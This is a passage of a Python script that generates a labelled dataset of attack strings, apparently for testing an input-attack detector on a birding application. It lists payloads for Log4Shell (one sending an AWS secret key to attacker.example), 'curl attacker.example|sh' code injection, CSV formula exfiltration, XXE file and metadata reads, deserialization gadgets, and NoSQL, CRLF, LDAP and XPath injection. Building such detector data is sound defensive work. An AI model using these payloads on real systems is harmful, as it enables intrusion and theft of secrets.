    ("log4shell-env-exfil", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}"),
    ("log4shell-useragent-rmi", "Mozilla/5.0 ${jndi:rmi://attacker.example:1099/obj}"),
    ("log4shell-date-obfuscation", "${j${date:''}ndi:ldap://attacker.example/z}"),
    ("python-eval", "__import__('os').system('id')"),
    ("python-eval-count-field", "1+__import__('subprocess').check_output(['id']).__len__()"),
    ("python-exec-builtins", "exec(\"import os;os.system('curl attacker.example|sh')\")"),
    ("node-eval-require", "require('child_process').exec('curl http://attacker.example/$(id)')"),
    ("node-function-constructor", "Function('return process')().mainModule.require('child_process').execSync('id')"),
    ("php-eval-system", "system('id');"),
    ("php-assert-string", "phpinfo();//"),
    ("php-preg-replace-e", "/.*/e"),
    ("ruby-eval-backtick", "`id`"),
    ("proto-pollution-json", "{\"__proto__\": {\"isAdmin\": true}}"),
    ("proto-pollution-constructor", "{\"constructor\": {\"prototype\": {\"role\": \"admin\"}}}"),
    ("proto-pollution-query", "__proto__[shell]=/bin/sh&__proto__[NODE_OPTIONS]=--require /proc/self/environ"),
    ("proto-pollution-path", "settings.__proto__.outputFunctionName=x;process.mainModule.require('child_process').execSync('id');s"),
    ("csv-dde-cmd", "=cmd|' /C calc'!A0"),
    ("csv-hyperlink-exfil", "=HYPERLINK(\"http://attacker.example/?d=\"&A1&B1,\"View map\")"),
    ("csv-plus-formula", "+SUM(1+1)*cmd|' /C powershell IEX(wget attacker.example/p)'!A0"),
    ("csv-minus-formula-note", "-2+3+cmd|' /C notepad'!'A1'"),
    ("csv-at-formula", "@SUM(1+9)*cmd|' /C calc'!A0"),
    ("csv-importxml", "=IMPORTXML(CONCAT(\"http://attacker.example/?\",A2),\"//a\")"),
    ("csv-webservice", "=WEBSERVICE(\"http://attacker.example/c?\"&B2)"),
    ("xxe-file", "<?xml version=\"1.0\"?><!DOCTYPE gpx [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><gpx><name>&xxe;</name></gpx>"),
    ("xxe-parameter-oob", "<?xml version=\"1.0\"?><!DOCTYPE kml [<!ENTITY % d SYSTEM \"http://attacker.example/evil.dtd\"> %d;]><kml/>"),
    ("xxe-ssrf-metadata", "<!DOCTYPE r [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><observation><note>&m;</note></observation>"),
    ("xinclude", "<obs xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></obs>"),
    ("yaml-python-object", "!!python/object/apply:os.system ['id']"),
    ("yaml-snakeyaml-scriptengine", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("pickle-base64", "gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="),
    ("java-xmldecoder", "<java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\"><void index=\"0\"><string>id</string></void></array><void method=\"start\"/></object></java>"),
    ("php-unserialize-object", "O:8:\"Observer\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ("dotnet-json-typenamehandling", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"},\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c calc\"]}}"),
]

# ------------------------------------------------------------------ nosqli (25 literals)
A["nosqli"] = [
    ("plain-ne-operator", "{\"$ne\": null}"),
    ("plain-gt-empty", "{\"$gt\": \"\"}"),
    ("login-json-ne", "{\"username\": \"admin\", \"password\": {\"$ne\": \"x\"}}"),
    ("query-bracket-ne", "password[$ne]=birds"),
    ("query-bracket-regex", "username[$regex]=^adm&password[$ne]=1"),
    ("species-regex-dos", "{\"$regex\": \"^(a+)+$\"}"),
    ("species-filter-regex-extract", "{\"species\": \"amerob\", \"token\": {\"$regex\": \"^a\"}}"),
    ("where-js-sleep", "{\"$where\": \"sleep(5000) || true\"}"),
    ("where-js-string-breakout", "amerob'; return true; var x='"),
    ("where-js-this", "'; return this.password.match(/^a/); //"),
    ("where-js-while-dos", "{\"$where\": \"function(){ while(true){} }\"}"),
    ("or-operator", "{\"$or\": [{\"public\": true}, {\"public\": false}]}"),
    ("in-operator", "{\"role\": {\"$in\": [\"admin\", \"moderator\"]}}"),
    ("exists-operator", "{\"resetToken\": {\"$exists\": true}}"),
    ("expr-function", "{\"$expr\": {\"$function\": {\"body\": \"function(){return sleep(5000)}\", \"args\": [], \"lang\": \"js\"}}}"),
    ("aggregate-lookup", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"observer\", \"foreignField\": \"_id\", \"as\": \"u\"}}]"),
    ("count-gt-operator", "{\"count\": {\"$gt\": -1}, \"$comment\": \"all checklists\"}"),
    ("location-nin", "{\"location\": {\"$nin\": []}}"),
    ("checklist-id-where-string", "S123' || '1'=='1"),
    ("query-bracket-gt", "checklist_id[$gt]="),
    ("query-bracket-where", "filter[$where]=this.role=='admin'"),
    ("couchdb-selector", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"password\"]}"),
    ("elastic-script-query", "{\"query\": {\"script\": {\"script\": \"java.lang.Math.class.forName(\\\"java.lang.Runtime\\\").getRuntime().exec(\\\"id\\\")\"}}}"),
    ("elastic-query-string-wildcard", "species:* OR _exists_:password"),
    ("mongo-regex-options", "{\"email\": {\"$regex\": \".*\", \"$options\": \"si\"}}"),
]

# ------------------------------------------------------------------ crlf (27 literals)
A["crlf"] = [
    ("plain-header-injection", "%0d%0aSet-Cookie: session=attacker"),
    ("plain-raw-crlf-header", "x\r\nX-Injected: 1"),
    ("log-forging-raw", "Mallard\n2024-05-12 07:15:02 INFO user=admin action=delete_all_checklists status=ok"),
    ("log-forging-encoded", "robin%0a[INFO] 2024-05-12T07:15:02Z login success user=admin ip=127.0.0.1"),
    ("log-forging-crlf-encoded", "Cley%0d%0a2024-05-12 08:00:00 WARN rarity S99999 approved by reviewer=admin"),
    ("response-splitting", "/en/map%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>"),
    ("redirect-param-location", "/checklists%0d%0aLocation:%20https://attacker.example/phish"),
    ("redirect-set-cookie-raw", "/alerts\r\nSet-Cookie: role=admin; Path=/"),
    ("header-double-crlf-body", "en\r\n\r\n<html><body>Login expired, sign in at https://attacker.example</body></html>"),
    ("unicode-crlf-utf8", "%E5%98%8A%E5%98%8DSet-Cookie:%20x=1"),
    ("lf-only-encoded", "foo%0aX-Forwarded-Host:%20attacker.example"),
    ("double-encoded-crlf", "%250d%250aSet-Cookie:%20sid=abc"),
    ("cr-only", "Dunlin%0dRefresh:%200;url=https://attacker.example/"),
    ("mail-header-bcc", "jan.devries@example.com\r\nBcc: everyone@example.org"),
    ("mail-header-cc-encoded", "birder@example.com%0ACc:%20victim1@example.org,victim2@example.org"),
    ("mail-subject-injection", "[RBA] Hoopoe\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example>Confirm your account</a>"),
    ("mail-from-name-injection", "Jan de Vries\nReply-To: support@attacker.example"),
    ("mail-to-injection-bcc-lf", "alerts@example.org\nBcc: spamlist@attacker.example\nX-Mailer: birds"),
    ("smtp-data-smuggling", "Great sighting!\r\n.\r\nMAIL FROM:<ceo@example.org>\r\nRCPT TO:<victim@example.org>\r\nDATA\r\nSubject: urgent\r\n\r\nwire money\r\n."),
    ("filename-content-disposition", "export.csv\"\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("lang-header-cache-poison", "de%0d%0aX-Cache-Key:%20poison%0d%0a"),
    ("webhook-header-value", "Bearer x\r\nX-Forwarded-For: 127.0.0.1"),
    ("sms-sender-injection", "+44 7700 900123\r\nX-Priority: 1"),
    ("log-forge-ansi-and-newline", "Oystercatcher\u001b[2J\u001b[1;1H\n[AUDIT] all records verified by admin"),
    ("log-forge-json-line", "Tern\n{\"level\":\"info\",\"user\":\"admin\",\"event\":\"password_changed\"}"),
    ("utf8-line-separator-log", "Heron\u2028[INFO] admin logged in from 10.0.0.1"),
    ("nel-character-encoded", "Swift%C2%85X-Injected:%20yes"),
]

# ------------------------------------------------------------------ ldap-xpath (18 literals)
A["ldap-xpath"] = [
    ("plain-ldap-wildcard-admin", "*)(uid=*))(|(uid=*"),
    ("plain-xpath-or", "' or '1'='1"),
    ("ldap-login-bypass", "admin)(&)"),
    ("ldap-or-true", "birder)(|(objectClass=*)"),
    ("ldap-password-wildcard", "admin)(userPassword=*)"),
    ("ldap-blind-attribute", "*)(mail=a*"),
    ("ldap-group-member", "jdevries)(memberOf=cn=admins,ou=groups,dc=birds,dc=example"),
    ("ldap-null-byte-terminate", "admin))%00"),
    ("ldap-nested-or-wildcard", "birder*)(|(cn=*"),
    ("ldap-display-name-injection", "Siobhán*)(objectClass=user)(cn=*"),
    ("xpath-login-bypass", "admin' or '1'='1"),
    ("xpath-count-nodes", "' or count(/*)=1 or 'a'='b"),
    ("xpath-string-length-blind", "' or string-length(//user[1]/password)=8 or ''='"),
    ("xpath-substring-blind", "x' or substring(//user[name='admin']/pass,1,1)='a' or 'a'='b"),
    ("xpath-union-nodes", "amerob'] | //user/password | //x['"),
    ("xpath-numeric-or", "1 or 1=1"),
    ("xpath-doc-ssrf", "') or doc('http://attacker.example/x')/a or ('"),
    ("xpath-name-enum", "' or name(/*[1])='checklists' or '1'='2"),
]

# ------------------------------------------------------------------ templated additions
# (a) hand-written domain prefixes joined to hand-written payloads
PREFIXES = {
    "sqli": ["Comments: Flyover, heading N ", "species=", "Ardea alba modesta ",
             "Location: Point Pelee NP--Tip "],
    "xss": ["Caption: Juvenile Curlew ", "Re: gull ID help -- ", "Tags: #heron ", "Bio: sound recordist "],
    "cmdi": ["NFC_20240916_0420.wav", "morning_walk_2024-05-19.gpx", "DSC_1187.NEF"],
    "code": ["Message template: ", "Observation Details: ", "Subject prefix: [RBA] "],
    "nosqli": [],
    "crlf": [],
    "ldap-xpath": [],
    "traversal": [], "ssrf": [],
}
PAYLOADS = {
    "sqli": [("prefixed-or-true", "' OR 'x'='x'-- -"),
             ("prefixed-union-users", "' UNION SELECT login,password FROM users-- -"),
             ("prefixed-sleep", "' AND SLEEP(6)-- -"),
             ("prefixed-waitfor", "'; WAITFOR DELAY '0:0:6'--")],
    "xss": [("prefixed-img-onerror", "<img src=x onerror=alert(document.cookie)>"),
            ("prefixed-svg-onload", "<svg/onload=alert(1)>"),
            ("prefixed-script", "<script>alert(1)</script>")],
    "cmdi": [("prefixed-semicolon-id", ";id"),
             ("prefixed-subshell-curl", "$(curl attacker.example/i.sh|sh)"),
             ("prefixed-backtick-uname", "`uname -a`")],
    "code": [("prefixed-log4shell", "${jndi:ldap://attacker.example/b}"),
             ("prefixed-jinja2-popen", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"),
             ("prefixed-spel", "${T(java.lang.Runtime).getRuntime().exec('id')}")],
}
TEMPLATED_JOIN = {"sqli": 4, "xss": 4, "cmdi": 3, "code": 3}

# (b) one encoding applied to a hand-written payload (picked from the literals above)
ENCODE_COUNTS = {"sqli": 4, "xss": 4, "cmdi": 4, "traversal": 5, "ssrf": 5, "code": 4,
                 "nosqli": 2, "crlf": 3, "ldap-xpath": 2}

CATEGORIES = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]


def urlencode(s):
    return urllib.parse.quote(s, safe="")


def build():
    rows = []
    seen = set()
    for cat in CATEGORIES:
        lits = A[cat]
        for cls, v in lits:
            assert v and v not in seen, (cat, v)
            seen.add(v)
            rows.append((cat, cls, v))
        # join template
        n = TEMPLATED_JOIN.get(cat, 0)
        made = 0
        guard = 0
        while made < n:
            guard += 1
            assert guard < 1000
            pre = rng.choice(PREFIXES[cat])
            cls, pay = rng.choice(PAYLOADS[cat])
            v = pre + pay
            if v in seen:
                continue
            seen.add(v)
            rows.append((cat, cls, v))
            made += 1
        # encoding template: pick literals that are not already encoded-looking
        cands = [(c, v) for c, v in lits if "%" not in v and not c.startswith("plain")]
        n = ENCODE_COUNTS[cat]
        made = 0
        guard = 0
        while made < n:
            guard += 1
            assert guard < 1000
            cls, v = rng.choice(cands)
            enc = urlencode(v)
            if enc in seen or enc == v:
                continue
            seen.add(enc)
            rows.append((cat, cls + "+urlencode", enc))
            made += 1
    return rows


def main():
    here = os.path.dirname(os.path.abspath(__file__))
    rows = build()
    path = os.path.join(here, "attacks.jsonl")
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            rec = {"id": "%s-%05d" % (PREFIX, i), "category": cat, "class": cls,
                   "label": "attack", "value": v}
            f.write(json.dumps(rec, ensure_ascii=False) + "\n")
    print("wrote %d rows to %s" % (len(rows), path))


if __name__ == "__main__":
    main()
